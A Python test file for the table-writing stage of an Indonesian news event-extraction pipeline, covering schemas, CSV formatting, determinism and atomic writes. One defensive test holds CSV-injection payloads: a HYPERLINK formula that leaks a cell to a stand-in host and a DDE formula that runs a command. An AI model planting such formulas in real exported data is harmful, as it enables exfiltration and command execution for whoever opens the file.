"""Table building and writing: schemas, CSV format, determinism, atomic writes, data dictionary."""
from __future__ import annotations

import csv
import io
from datetime import date, datetime
from zoneinfo import ZoneInfo

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from pipeline.annotate import clean
from pipeline.output import dictionary
from pipeline import swap as outputs
from pipeline.output import schema
from pipeline.output import tables
from pipeline.record import (Article, DateRef, Event, Evidence, Mention, Meta, Page, Participant, Problem,
                             Removed)
from pipeline.record import InputStatus
from tests.paths import REPO_DIR

WIB = ZoneInfo("Asia/Jakarta")
REPO = REPO_DIR


def make_article(article_id: str = "a1", source_path: str = "x.txt") -> Article:
    body = "Rusia dan Kyrgyzstan bertemu di Moskow, Selasa (10/11).\n\nKalimat kedua."
    sentence = body.split("\n\n")[0]
    evidence = Evidence(0, 0, len(sentence), sentence, "bertemu", 21, 28)
    event = Event(
        event_id=f"{article_id}-e1", event_type="MEETING", subtype="bilateral", cameo_code="043",
        plover_type="CONSULT",
        date=DateRef(date(2020, 11, 10), date(2020, 11, 10), "day", False, "Selasa (10/11)", "sentence",
                     "date.weekday_paren_dm", 40, 54),
        location="Moskow", rule_id="meeting.bilateral", confidence=0.8, evidence=(evidence, evidence),
        participants=(Participant("attendee", "Russia", "COUNTRY", "RUS", "Rusia", 0, 5),
                      Participant("attendee", "Russia", "COUNTRY", "RUS", "Rusia", 0, 5),
                      Participant("attendee", "Kyrgyzstan", "COUNTRY", "KGZ", "Kyrgyzstan", 10, 20)))
    return Article(
        page=Page(article_id, source_path, "raw", "utf_8", "txt"),
        profile_id="kontan", body=body, captions="Foto: Putin",
        removed=(Removed(0, "kontan.co.id", "kontan.header"),),
        meta=Meta(site="kontan", title="Judul", published_at=datetime(2020, 11, 11, 11, 40, tzinfo=WIB),
                  date_source="page", language="id"),
        mentions=(Mention("body", 0, 0, 5, "Rusia", "COUNTRY", "Russia", "RUS", "gazetteer"),
                  Mention("body", 0, 10, 20, "Kyrgyzstan", "COUNTRY", "Kyrgyzstan", "KGZ", "gazetteer"),
                  Mention("body", 0, 32, 38, "Moskow", "LOC", "Moskow", None, "model")),
        events=(event,),
    )


def build(articles=None, problems=(), inputs=()):
    articles = [make_article()] if articles is None else articles
    return tables.build_tables(articles, problems, inputs)


def test_every_table_has_its_declared_schema():
    built = build(problems=[Problem("bad.txt", "ingest", "empty", "file is empty")],
                  inputs=[InputStatus("x.txt", "processed", "a1"), InputStatus("bad.txt", "error")])
    assert set(built) == {t.name for t in schema.TABLES}
    for name, table in built.items():
        assert table.schema == schema.TABLES_BY_NAME[name].arrow_schema


def test_rows_carry_the_records_values():
    built = build()
    article = built["articles"].to_pylist()[0]
    assert article["published_at"] == datetime(2020, 11, 11, 11, 40, tzinfo=WIB)
    assert (article["n_chars"], article["n_words"], article["n_removed_lines"]) == (71, 10, 1)
    event = built["event_mentions"].to_pylist()[0]
    assert (event["date_start"], event["n_sentences"], event["location_text"]) == (date(2020, 11, 10), 2, "Moskow")
    assert (event["location"], event["geonames_id"], event["location_country"]) == ("Moscow", 524901, "RUS")
    assert built["event_evidence"].num_rows == 2
    # a participant named twice in one role is one row
    assert [(p["role"], p["code"]) for p in built["mention_participants"].to_pylist()] == [
        ("attendee", "KGZ"), ("attendee", "RUS")]
    entities = {(e["canonical"], e["n_mentions"]) for e in built["entities"].to_pylist()}
    assert entities == {("Russia", 1), ("Kyrgyzstan", 1), ("Moskow", 1)}


def test_a_line_cut_in_pieces_has_one_row_per_piece_and_a_unique_key(compiled):
    """A one-line article whose dateline opens it and whose writer's initials close it loses two pieces of line 0."""
    text = ("Hujan Deras Rendam Permukiman di Pesisir\n\n"
            "SEMARANG - Hujan deras sejak Minggu malam merendam ratusan rumah warga di pesisir utara kota itu, "
            "dan petugas mengungsikan lansia ke balai kelurahan. (xyz)")
    article = clean.clean(Page("p1", "p1.txt", text, "utf_8", "txt"), compiled.profiles)
    rows = tables.build_tables([article], (), ())["removed_lines"].to_pylist()
    assert [(r["line_no"], r["piece"], r["rule_id"], r["text"]) for r in rows] == [
        (0, 0, "common.title", "Hujan Deras Rendam Permukiman di Pesisir"),
        (2, 0, "generic.dateline", "SEMARANG -"), (2, 1, "common.signoff", "(xyz)")]
    assert len({tuple(r[k] for k in schema.REMOVED_LINES.primary_key) for r in rows}) == len(rows)
    assert tables.build_tables([article], (), ())["articles"].to_pylist()[0]["n_removed_lines"] == 2


def test_rows_are_sorted_whatever_the_input_order():
    first, second = make_article("b", "b.txt"), make_article("a", "a.txt")
    forward = build([first, second])
    backward = build([second, first])
    for name in forward:
        assert forward[name].equals(backward[name]), name
    assert forward["articles"].column("source_path").to_pylist() == ["a.txt", "b.txt"]


def test_csv_uses_iso_dates_and_empty_cells_for_missing_values():
    text = tables.csv_bytes(build()["articles"]).decode("utf-8")
    header, row = text.splitlines()[0], text.splitlines()[1]
    assert header.split(",")[:3] == ["article_id", "source_path", "input_format"]
    assert "2020-11-11T11:40:00+07:00" in row
    assert ",," in row  # url is missing
    assert tables.csv_bytes(build()["articles"], bom=True).startswith("\ufeff".encode())


FORMULAS = ['=HYPERLINK("http://x.example/?q="&A1,"klik")', "=cmd|' /C calc'!A0", "+62 812", "@SUM(A1:A9)",
            "-- Iklan --", "\tTab", "\rCR"]


def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_start_with_an_apostrophe(tmp_path):
    problems = [Problem(f"{n}.txt", "ingest", "empty", text) for n, text in enumerate(FORMULAS)]
    problems.append(Problem("ok.txt", "ingest", "empty", "a = b, -1 and @x inside a cell stay as they are"))
    built = tables.build_tables([], problems, [])
    tables.write_tables(built, tmp_path)
    rows = list(csv.DictReader(io.StringIO((tmp_path / "errors.csv").read_bytes().decode("utf-8"), newline="")))
    assert [row["message"] for row in rows] == ["'" + text for text in FORMULAS] + [problems[-1].message]
    assert pq.read_table(tmp_path / "errors.parquet")["message"].to_pylist() == [p.message for p in problems]


def test_numbers_are_never_given_an_apostrophe():
    table = pa.table({"text": ["-5", None], "n": pa.array([-5, 3], pa.int32()), "x": pa.array([-0.5, 1.0])})
    assert tables.csv_bytes(table).decode() == "text,n,x\n'-5,-5,-0.5\n,3,1\n"


def test_a_carriage_return_inside_a_cell_never_splits_its_row():
    inputs = [InputStatus("odd\rname.txt", "error"), InputStatus("\r", "error"), InputStatus("plain.txt", "error")]
    text = tables.csv_bytes(tables.build_tables([], [], inputs)["inputs"]).decode("utf-8")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert [row[0] for row in rows] == ["source_path", "'\r", "odd\rname.txt", "plain.txt"]
    assert text.endswith("\n") and "\r\n" not in text


def test_write_tables_round_trips_through_parquet(tmp_path):
    built = build()
    tables.write_tables(built, tmp_path)
    for name, table in built.items():
        assert pq.read_table(tmp_path / f"{name}.parquet").equals(table)
        assert (tmp_path / f"{name}.csv").read_bytes() == tables.csv_bytes(table)
    assert not list(tmp_path.glob(".*.tmp"))


def test_rewriting_gives_identical_files(tmp_path):
    tables.write_tables(build(), tmp_path / "one")
    tables.write_tables(build(), tmp_path / "two")
    for path in sorted((tmp_path / "one").iterdir()):
        assert path.read_bytes() == (tmp_path / "two" / path.name).read_bytes(), path.name


def test_a_failed_write_leaves_the_previous_file_intact(tmp_path, monkeypatch):
    target = tmp_path / "articles.csv"
    target.write_bytes(b"previous")

    def disk_full(*args, **kwargs):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(outputs.os, "fsync", disk_full)
    with pytest.raises(OSError):
        outputs.write_atomically(target, b"new content")
    assert target.read_bytes() == b"previous"
    assert not list(tmp_path.glob(".*.tmp"))


def test_a_value_of_the_wrong_type_fails_loudly():
    with pytest.raises((pa.ArrowInvalid, pa.ArrowTypeError)):
        tables.to_arrow(schema.ERRORS, [{"source_path": "x", "stage": "ingest", "kind": "empty", "message": 3}])


def test_data_dictionary_is_up_to_date():
    committed = (REPO / "docs" / "data_dictionary.md").read_text(encoding="utf-8")
    regenerate = "regenerate: python -m pipeline.output.dictionary > docs/data_dictionary.md"
    assert committed == dictionary.render(), regenerate
    for table in schema.TABLES:
        assert f"## {table.name}" in committed
